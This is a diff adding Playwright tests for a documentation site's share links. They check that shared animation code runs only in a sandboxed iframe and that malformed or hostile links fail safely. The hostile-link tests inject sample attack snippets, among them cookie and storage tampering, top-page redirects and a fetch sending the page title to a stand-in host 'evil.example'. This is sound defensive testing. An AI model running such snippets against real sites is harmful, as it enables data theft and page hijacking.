@@ -1,0 +1,346 @@
+import {readFileSync} from 'node:fs';
+import {deflateRawSync, gzipSync} from 'node:zlib';
+import type {Browser, BrowserContext, Locator, Page} from '@playwright/test';
+
+import {PREVIEW, SHARE} from '../../plugins/live-preview/constants';
+import {encodeScene} from '../../plugins/live-preview/share/link';
+import {expect, test} from './support/fixtures';
+import {answerBadgeRequests} from './support/badges';
+import {E2E_ORIGIN} from './support/server';
+
+/** A mark in the site's storage that shared code must not be able to read or change. */
+const CANARY = {key: 'share-canary', value: 'untouched'};
+/** What hostile code writes; built from two halves in the code, so the editor never shows it whole. */
+const OWNED = 'owned-by-scene';
+const OWNED_IN_CODE = `'owned-' + 'by-scene'`;
+
+function preview(page: Page): Locator {
+  return page.locator('[data-live-preview]').first();
+}
+
+/** Waits until the preview has run its code: `ready`, or `error` when `failing` (the code threw at once). */
+async function ready(page: Page, target: Locator, failing = false): Promise<void> {
+  await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true', {timeout: 30_000});
+  await target.scrollIntoViewIfNeeded();
+  await expect(target).toHaveAttribute('data-status', /^(ready|error)$/, {timeout: 30_000});
+  if (!failing && (await target.getAttribute('data-status')) === 'error') {
+    throw new Error(`The preview failed: ${await target.getByRole('alert').innerText()}`);
+  }
+}
+
+/** Pauses the preview and moves it to `frame`; waits until the player reports that frame. */
+async function showFrame(target: Locator, frame: number): Promise<void> {
+  if ((await target.getAttribute('data-paused')) === 'false') {
+    await target.getByRole('button', {name: 'Pause'}).click();
+  }
+  await expect(target).toHaveAttribute('data-paused', 'true');
+  // A recompile that lands meanwhile may move the frame: seek again until it stays.
+  await expect(async () => {
+    await target.getByRole('slider', {name: 'Time'}).fill(String(frame));
+    await expect(target).toHaveAttribute('data-frame', String(frame), {timeout: 2_000});
+    await expect(target).toHaveAttribute('data-paused', 'true', {timeout: 500});
+  }).toPass({timeout: 15_000});
+}
+
+/**
+ * A coarse picture of the canvas (16×9 cells, mean RGB of each): equal scenes at the
+ * same frame give the same signature, wherever they are drawn.
+ */
+async function signature(canvas: Locator): Promise<number[]> {
+  return canvas.evaluate((element: HTMLCanvasElement) => {
+    const context = element.getContext('2d');
+    if (!context) return [];
+    const {width, height} = element;
+    const {data} = context.getImageData(0, 0, width, height);
+    const cells: number[] = [];
+    for (let row = 0; row < 9; row++) {
+      for (let column = 0; column < 16; column++) {
+        const sum = [0, 0, 0];
+        let count = 0;
+        for (let y = Math.floor((row * height) / 9); y < Math.floor(((row + 1) * height) / 9); y += 2) {
+          for (let x = Math.floor((column * width) / 16); x < Math.floor(((column + 1) * width) / 16); x += 2) {
+            const index = (y * width + x) * 4;
+            sum[0] += data[index];
+            sum[1] += data[index + 1];
+            sum[2] += data[index + 2];
+            count++;
+          }
+        }
+        cells.push(...sum.map((value) => Math.round(value / count)));
+      }
+    }
+    return cells;
+  });
+}
+
+function largestDifference(a: number[], b: number[]): number {
+  if (a.length !== b.length || a.length === 0) return Infinity;
+  return Math.max(...a.map((value, index) => Math.abs(value - b[index])));
+}
+
+/** The canvas inside the sandboxed frame of a shared playground. */
+function sandboxCanvas(page: Page): Locator {
+  return page.frameLocator('iframe[data-sandbox]').locator('canvas');
+}
+
+/** A browser context that shares nothing with the sharer's, offline like the fixtures' one. */
+async function freshContext(browser: Browser): Promise<{context: BrowserContext; external: string[]}> {
+  const context = await browser.newContext();
+  const external: string[] = [];
+  await context.route(
+    (url) => url.origin !== E2E_ORIGIN && url.protocol !== 'data:' && url.protocol !== 'blob:',
+    async (route) => {
+      external.push(route.request().url());
+      await route.abort('blockedbyclient');
+    },
+  );
+  await answerBadgeRequests(context);
+  return {context, external};
+}
+
+async function replaceCode(page: Page, target: Locator, code: string): Promise<void> {
+  const editor = target.locator('[data-live-editor] .cm-content');
+  await expect(editor).toBeVisible();
+  await editor.click();
+  await page.keyboard.press('ControlOrMeta+a');
+  await page.keyboard.insertText(code);
+}
+
+test.describe('share links', () => {
+  test('share from a guide preview: the link opens the same animation in a sandbox, named after its page', async ({
+    page,
+    context,
+    browser,
+  }) => {
+    test.setTimeout(120_000);
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], {origin: E2E_ORIGIN});
+    // The guide's first example, from its source (the editor renders only the lines in view).
+    const guide = readFileSync('docs/getting-started/tweening.mdx', 'utf8');
+    const original = /```tsx title="src\/scenes\/timing\.tsx" preview\n([\s\S]*?)```/.exec(guide)?.[1] ?? '';
+    expect(original).toContain("fill={'#3f82d6'}");
+    await page.goto('/docs/tweening');
+    const target = preview(page);
+    await ready(page, target);
+    await target.getByRole('button', {name: 'Edit'}).click();
+    const edited = original.replace("fill={'#3f82d6'}", "fill={'#e13238'}");
+    await replaceCode(page, target, edited);
+    // The edit recompiles after a pause in typing; then hold the frame it shows.
+    await page.waitForTimeout(PREVIEW.editDebounceMs + 1_000);
+    await expect(target.getByRole('alert')).toHaveCount(0);
+    if ((await target.getAttribute('data-paused')) === 'false') {
+      await target.getByRole('button', {name: 'Pause'}).click();
+    }
+    await expect(target).toHaveAttribute('data-paused', 'true');
+    await page.waitForTimeout(500);
+    const frame = Number(await target.getAttribute('data-frame'));
+    const sent = await signature(target.locator('canvas'));
+    await target.getByRole('button', {name: 'Share'}).click();
+    await expect(target.getByRole('button', {name: 'Link copied'})).toBeVisible();
+    const link = await page.evaluate(() => navigator.clipboard.readText());
+    expect(link).toMatch(new RegExp(`^${E2E_ORIGIN}/editor/#v1\\.[A-Za-z0-9_-]+$`));
+
+    const {context: fresh, external} = await freshContext(browser);
+    const receiver = await fresh.newPage();
+    await receiver.goto(link);
+    await expect(receiver.getByRole('heading', {level: 1, name: 'Shared scene'})).toBeVisible();
+    await expect(receiver.getByRole('link', {name: 'Tweening'})).toHaveAttribute('href', '/docs/tweening');
+    const shared = preview(receiver);
+    await ready(receiver, shared);
+    await expect(shared.locator('[data-live-editor] .cm-content')).toContainText("fill={'#e13238'}");
+    // The scene's canvas is in the sandboxed frame, not in the page.
+    await expect(shared.locator('canvas')).toHaveCount(0);
+    await expect(receiver.locator('iframe[data-sandbox]')).toHaveAttribute('sandbox', 'allow-scripts');
+    await showFrame(shared, frame);
+    await expect
+      .poll(async () => largestDifference(await signature(sandboxCanvas(receiver)), sent), {timeout: 10_000})
+      .toBeLessThanOrEqual(2);
+
+    // Original brings back the guide's code; Reset the link's.
+    await shared.getByRole('button', {name: 'Original'}).click();
+    await expect(shared.locator('[data-live-editor] .cm-content')).toContainText("fill={'#3f82d6'}");
+    await shared.getByRole('button', {name: 'Reset'}).click();
+    await expect(shared.locator('[data-live-editor] .cm-content')).toContainText("fill={'#e13238'}");
+    expect(external).toEqual([]);
+    await fresh.close();
+  });
+
+  test('share from /editor/random/ without a clipboard: the link is shown, and opens the same frame', async ({
+    page,
+    browser,
+  }) => {
+    test.setTimeout(120_000);
+    // A browser that refuses the clipboard.
+    await page.addInitScript(() => {
+      Object.defineProperty(navigator, 'clipboard', {
+        value: {writeText: () => Promise.reject(new DOMException('Refused', 'NotAllowedError'))},
+      });
+    });
+    await page.goto('/editor/random/');
+    const target = preview(page);
+    await ready(page, target);
+    await showFrame(target, 45);
+    await page.waitForTimeout(500);
+    const sent = await signature(target.locator('canvas'));
+    await target.getByRole('button', {name: 'Share'}).click();
+    const shown = target.locator('[data-share-link]');
+    await expect(shown).toBeVisible();
+    const link = await shown.inputValue();
+    expect(link).toMatch(new RegExp(`^${E2E_ORIGIN}/editor/#v1\\.`));
+
+    const {context: fresh, external} = await freshContext(browser);
+    const receiver = await fresh.newPage();
+    await receiver.goto(link);
+    await expect(receiver.getByRole('link', {name: 'Random example'})).toHaveAttribute('href', '/editor/random/');
+    const shared = preview(receiver);
+    await ready(receiver, shared);
+    await showFrame(shared, 45);
+    await expect
+      .poll(async () => largestDifference(await signature(sandboxCanvas(receiver)), sent), {timeout: 10_000})
+      .toBeLessThanOrEqual(2);
+    expect(external).toEqual([]);
+    await fresh.close();
+  });
+});
+
+/** Logged after the attempt: when it shows, the attempt ran (in the sandbox) without throwing. */
+const FINISHED = 'attempt finished';
+const scene = (body: string) => `import {makeScene2D} from '@canvas-commons/2d';
+import {useLogger} from '@canvas-commons/core';
+
+export default makeScene2D(function* (view) {
+  ${body}
+  useLogger().info('${FINISHED}');
+  yield;
+});
+`;
+const fragmentOf = (json: string, version: number = SHARE.version) =>
+  `v${version}.${deflateRawSync(Buffer.from(json, 'utf8')).toString('base64url')}`;
+
+/** Opens a hostile link with a mark in the site's storage; returns what the page should still show afterwards. */
+async function openHostile(page: Page, context: BrowserContext, fragment: string) {
+  const popups: string[] = [];
+  const dialogs: string[] = [];
+  context.on('page', (opened) => popups.push(opened.url()));
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await page.goto('/');
+  await page.evaluate(({key, value}) => localStorage.setItem(key, value), CANARY);
+  const url = `${E2E_ORIGIN}/editor/#${fragment}`;
+  await page.goto(url);
+  const target = preview(page);
+  await ready(page, target, true);
+  return {
+    target,
+    async expectUntouched() {
+      // Give late attempts (timers, promises) a moment.
+      await page.waitForTimeout(1_500);
+      expect(page.url(), 'top page URL').toBe(url);
+      // The site writes its own keys (badges, announcement); the mark must be as it was, and nothing says pwned.
+      const storage = await page.evaluate(() => ({...localStorage}));
+      expect(storage[CANARY.key], 'site storage').toBe(CANARY.value);
+      expect(JSON.stringify(storage), 'site storage').not.toContain(OWNED);
+      expect(await page.evaluate(() => document.cookie), 'site cookies').toBe('');
+      expect(await context.cookies(), 'cookies').toEqual([]);
+      await expect(page.getByRole('heading', {level: 1})).toHaveText('Shared scene');
+      await expect(page.locator('body')).not.toContainText(OWNED);
+      expect(popups, 'pop-ups').toEqual([]);
+      expect(dialogs, 'dialogs').toEqual([]);
+    },
+  };
+}
+
+test.describe('hostile links fail safe', () => {
+  const unreadable: Array<[string, () => string, RegExp]> = [
+    ['a fragment that does not decode', () => 'v1.not*base64!', /cannot read|cut short/],
+    ['base64 that is not deflate', () => 'v1.AAAAAAAAAAAAAAAA', /cannot read|cut short/],
+    ['a newer format version', () => fragmentOf(JSON.stringify({code: scene('')}), SHARE.version + 1), /newer/],
+    [
+      'a payload over the size limit',
+      () => fragmentOf(JSON.stringify({code: `// ${'x'.repeat(SHARE.maxCodeBytes)}\n${scene('')}`})),
+      /more code/,
+    ],
+  ];
+  for (const [name, fragment, message] of unreadable) {
+    test(`${name}: a message and an empty, working playground`, async ({page, context}) => {
+      const {target, expectUntouched} = await openHostile(page, context, fragment());
+      await expect(page.getByRole('alert').first()).toContainText(message);
+      await expect(page.locator('[data-shared-playground]')).not.toHaveAttribute('data-shared-playground', 'ok');
+      // Working: the empty scene ran, and an edit runs too.
+      await expect(target.getByRole('alert')).toHaveCount(0);
+      const code = await target.locator('[data-live-editor] .cm-content').innerText();
+      await replaceCode(page, target, code.replace('// Add nodes to the view here.', 'view.fill("#20c020");'));
+      await expect
+        .poll(async () => largestDifference((await signature(sandboxCanvas(page))).slice(0, 3), [32, 192, 32]), {
+          timeout: 10_000,
+        })
+        .toBeLessThanOrEqual(2);
+      await expectUntouched();
+    });
+  }
+
+  // Each attempt either throws (the message names the reason) or does nothing and the scene goes on.
+  const attacks: Array<[string, string, RegExp | null]> = [
+    ['top.location', `top.location.href = '${E2E_ORIGIN}/docs/?pwned';`, null],
+    ['parent.document', `parent.document.body.textContent = ${OWNED_IN_CODE};`, /cross-origin|Security|Blocked/i],
+    ['localStorage', `localStorage.setItem('${CANARY.key}', ${OWNED_IN_CODE});`, /sandbox|Security|denied/i],
+    ['document.cookie', `document.cookie = ${OWNED_IN_CODE} + '=1; path=/';`, /sandbox|Security|cookie/i],
+    ['window.open', `if (window.open('${E2E_ORIGIN}/docs/?pwned')) throw new Error('opened');`, null],
+    ['fetch to another host', `fetch('http://evil.example/steal?' + document.title).catch(() => undefined);`, null],
+    ['an endless loop', `while (true) {}`, /loop/i],
+  ];
+  for (const [name, body, error] of attacks) {
+    test(`code that tries ${name} runs only in the sandbox`, async ({page, context, externalRequests}) => {
+      const {target, expectUntouched} = await openHostile(page, context, await encodeScene({code: scene(body)}));
+      const outcome = target.getByRole('alert').or(target.locator('li', {hasText: FINISHED}));
+      await expect(outcome.first()).toBeVisible({timeout: 15_000});
+      if (error) await expect(target.getByRole('alert')).toContainText(error);
+      console.log(`${name}: ${(await outcome.first().innerText()).replace(/\s+/g, ' ').slice(0, 160)}`);
+      await expectUntouched();
+      expect(externalRequests, 'requests that left 127.0.0.1').toEqual([]);
+      // The page's own canvas stayed out of reach: every frame of it is in the sandbox.
+      await expect(page.locator('iframe[data-sandbox]')).toHaveAttribute('sandbox', 'allow-scripts');
+    });
+  }
+});
+
+test('the sandbox page refuses to run outside an opaque-origin frame', async ({page}) => {
+  await page.goto('/editor/sandbox.html');
+  await expect(page.locator('body')).toContainText('does nothing on its own');
+  await expect(page.locator('canvas')).toHaveCount(0);
+});
+
+test('weight: what opening a shared link loads, page and sandbox (gzip)', async ({page}) => {
+  test.setTimeout(90_000);
+  const sizes = new Map<string, {gzip: number; frame: boolean}>();
+  const pending: Promise<void>[] = [];
+  page.on('response', (response) => {
+    const url = new URL(response.url());
+    const type = response.request().resourceType();
+    if (!['script', 'stylesheet', 'document'].includes(type) || url.origin !== E2E_ORIGIN) return;
+    const frame = response.frame() !== page.mainFrame();
+    // The same file may load in both; count it once for each.
+    const key = `${frame ? 'frame' : 'page'} ${url.pathname}`;
+    if (sizes.has(key)) return;
+    sizes.set(key, {gzip: 0, frame});
+    pending.push(
+      response
+        .body()
+        .then((body) => void sizes.set(key, {gzip: gzipSync(body, {level: 6}).length, frame}))
+        .catch(() => undefined),
+    );
+  });
+  await page.goto(`/editor/#${await encodeScene({code: scene('view.fill("#20c020");')})}`);
+  await ready(page, preview(page));
+  await page.waitForLoadState('networkidle');
+  await Promise.all(pending);
+  const total = (inFrame: boolean) =>
+    [...sizes.values()].filter(({frame}) => frame === inFrame).reduce((sum, {gzip}) => sum + gzip, 0);
+  const kb = (bytes: number) => `${(bytes / 1024).toFixed(1)} KB`;
+  const frameFiles = [...sizes].filter(([, {frame}]) => frame).map(([path, {gzip}]) => `${path} ${kb(gzip)}`);
+  const summary = `shared link: page ${kb(total(false))}, sandbox frame ${kb(total(true))} (budget for a preview start ${kb(PREVIEW.startBudgetGzip)}); frame files: ${frameFiles.join(', ')}`;
+  console.log(summary);
+  test.info().annotations.push({type: 'weight', description: summary});
+  expect(total(true)).toBeGreaterThan(0);
+});
